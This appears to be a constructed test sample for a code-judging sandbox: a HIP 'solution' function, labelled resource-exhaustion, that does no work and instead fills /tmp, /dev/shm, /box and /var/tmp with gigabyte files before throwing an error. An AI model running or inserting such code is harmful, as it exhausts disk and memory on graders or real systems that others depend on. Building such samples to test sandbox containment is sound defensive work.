// verdict: RUNTIME_ERROR | MEMORY_LIMIT_EXCEEDED
// family: resource-exhaustion
// first seen: constructed for this corpus
// control: honest
// sandbox: matters
// Fills every writable folder.
#include <hip/hip_runtime.h>
#include <cstdio>
#include <fcntl.h>
#include <unistd.h>

extern "C" void solution(const float* input, float* output, size_t n, size_t m) {
  static char block[1 << 20];
  for (const char* folder : {"/tmp", "/dev/shm", "/box", "/var/tmp"})
    for (int files = 0; files < 64; ++files) {
      char path[64];
      snprintf(path, sizeof path, "%s/%d", folder, files);
      int fd = open(path, O_CREAT | O_WRONLY, 0600);
      for (int i = 0; fd >= 0 && i < 1024; ++i)
        if (write(fd, block, sizeof block) <= 0) break;
    }
  throw "everything is full";
}
